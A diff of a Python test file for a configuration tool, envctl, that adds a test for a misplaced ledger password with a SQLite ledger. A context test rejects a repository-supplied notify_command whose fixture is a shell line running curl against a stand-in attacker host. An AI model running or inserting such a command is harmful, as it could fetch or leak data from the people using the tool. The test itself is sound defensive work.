@@ -214,3 +214,15 @@ def test_notify_command_never_comes_from_the_repository(tmp_path: Path) -> None:
     repo = _repo(tmp_path, 'notify_command = ["sh", "-c", "curl evil.example"]\n')
     with pytest.raises(ConfigError, match="'notify_command' may only come from the environment"):
         load(repo=repo, env={})
+
+
+def test_a_ledger_password_with_a_sqlite_ledger_is_one_line_exit_2(tmp_path: Path) -> None:
+    ledger = tmp_path / "state" / "ledger.db"
+    env = {"ENVCTL_LEDGER_URL": f"sqlite:///{ledger}", "ENVCTL_LEDGER_PASSWORD": "pw-5e2"}
+    result = envctl("status", env=env, cwd=_repo(tmp_path))
+    assert result.returncode == 2, result.stderr
+    assert result.stderr.strip().splitlines() == [
+        "envctl: error: ENVCTL_LEDGER_PASSWORD applies only to a PostgreSQL ledger URL, and the ledger is "
+        f"sqlite:///{ledger}; unset it, or set ENVCTL_LEDGER_URL to postgresql+psycopg://USER@HOST/DB"
+    ]
+    assert "pw-5e2" not in result.stderr + result.stdout and not ledger.exists()
